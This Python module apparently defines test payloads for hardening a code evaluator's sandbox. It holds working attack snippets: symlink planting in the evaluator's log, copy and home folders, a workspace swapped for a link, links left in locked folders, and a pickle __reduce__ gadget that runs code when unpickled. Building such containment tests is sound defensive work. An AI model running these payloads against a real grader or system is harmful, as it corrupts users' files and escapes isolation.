"""Indirect harms: traps in places where the evaluator itself will write, read or clean up later."""

from __future__ import annotations

from behaviour import Behaviour, harm
from victim import Victim

PLACES = """\
import os, sys, tempfile
from pathlib import Path
above = [path for path in Path.cwd().parents if path.name.startswith("reloc-") or path.parent.name.startswith("reloc-")]
"""
"""`above`: the evaluator's own folders around the copy of the workspace."""
LINKED_LOGS = (
    PLACES
    + """\
for folder in above:
    for log in ("warm.log", "fresh.log", "cold.log", "collection.log"):
        try:
            if (folder / log).exists(): os.remove(folder / log)
            os.symlink("{victim}/keep.txt", folder / log)
        except OSError: pass
os.write(2, b"mine")
"""
)
COPIES_LAID_OUT = (
    PLACES
    + """\
for folder in above:
    for number in range(100):
        place = folder / f"copy-{number}" / "workspace" / "2" / "1" / Path.cwd().name
        try:
            place.mkdir(parents=True)
            for name in ("m.py", "test_m.py"): os.symlink("{victim}/keep.txt", place / name)
        except OSError: pass
"""
)
COPIES_LINKED = (
    PLACES
    + """\
for folder in above:
    for number in range(100):
        try: os.symlink("{victim}/old", folder / f"copy-{number}")
        except OSError: pass
"""
)
HOMES_LINKED = (
    PLACES
    + """\
for folder in above:
    for name in ("home", "tmp", "cache", "children"):
        try:
            if (folder / name).exists(): os.rename(folder / name, folder / (name + "-was"))
            os.symlink("{victim}/old", folder / name)
        except OSError: pass
open(os.path.join(tempfile.gettempdir(), "new"), "w").close()
open(os.path.expanduser("~/new"), "w").close()
"""
)
LINKS_UNDER_LOCK = """\
import os, tempfile
for start in (tempfile.gettempdir(), os.getcwd(), os.path.expanduser("~")):
    try:
        folder = tempfile.mkdtemp(dir=start)
        os.symlink("{victim}/mode.txt", folder + "/link")
        os.symlink("{victim}/old", folder + "/links")
        os.chmod(folder, 0o500)
    except OSError: pass
"""
WORKSPACE_LINKED = """\
import os
here = os.getcwd()
if "/reloc-" in here:
    os.rename(here, here + "-was")
    os.symlink("{victim}", here)
    os.chdir(here)
    open("keep.txt", "w").write("mine")
"""
EXPLOSIVE = """\
class Explosive(Exception):
    def __reduce__(self): return exec, ("open('{victim}/keep.txt', 'w').write('mine')",)
if a == 3: raise Explosive(Explosive())
return Explosive()
"""


def kept(victim: Victim) -> bool:
    """Whether the victim's folder has changed."""
    return victim.changed("victim")


HARMS: tuple[Behaviour, ...] = (
    harm(
        "makes the logs links",
        "Has the evaluator append what the next test processes print to a file of the user's.",
        LINKED_LOGS,
        kept,
        confirmed=True,
    ),
    harm(
        "lays out copies with links",
        "Makes the next copies of the workspace beforehand, with links where the evaluator will write the files.",
        COPIES_LAID_OUT,
        kept,
        confirmed=True,
    ),
    harm(
        "makes the copies links",
        "Has the evaluator make the next copies of the workspace in a folder of the user's.",
        COPIES_LINKED,
        kept,
        confirmed=True,
    ),
    harm(
        "makes the homes links",
        "Has the next test processes find their homes and folders for temporary files at the user's.",
        HOMES_LINKED,
        kept,
        confirmed=True,
    ),
    harm(
        "makes the workspace a link",
        "Has the next test processes work in a folder of the user's.",
        WORKSPACE_LINKED,
        kept,
        confirmed=True,
    ),
    harm(
        "puts links under lock",
        "Leaves links in folders that cannot be cleared, so that the evaluator unlocks what they point at.",
        LINKS_UNDER_LOCK,
        kept,
        confirmed=True,
    ),
    Behaviour(
        "returns what explodes",
        "Returns and raises objects that run code where they are unpickled.",
        "harm",
        EXPLOSIVE,
        shows="outside",
        harmed=kept,
    ),
)
